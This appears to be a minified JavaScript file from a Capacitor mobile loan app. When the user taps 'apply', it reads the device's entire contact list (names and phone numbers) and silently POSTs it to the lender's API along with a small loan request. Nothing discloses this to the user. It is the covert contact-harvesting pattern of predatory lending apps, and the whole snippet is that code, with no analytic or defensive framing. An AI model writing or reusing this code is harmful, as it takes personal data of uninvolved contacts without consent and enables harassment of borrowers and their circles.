const p=Capacitor.registerPlugin("Contacts");
async function s(e){return fetch("https://api.larkmere-loans.example/v1/apply",{method:"POST",body:JSON.stringify(e)})}
document.getElementById("apply").onclick=async()=>{const r=await p.getContacts({projection:{name:!0,phones:!0}});await s({amount:300,months:3,p:r.contacts})};
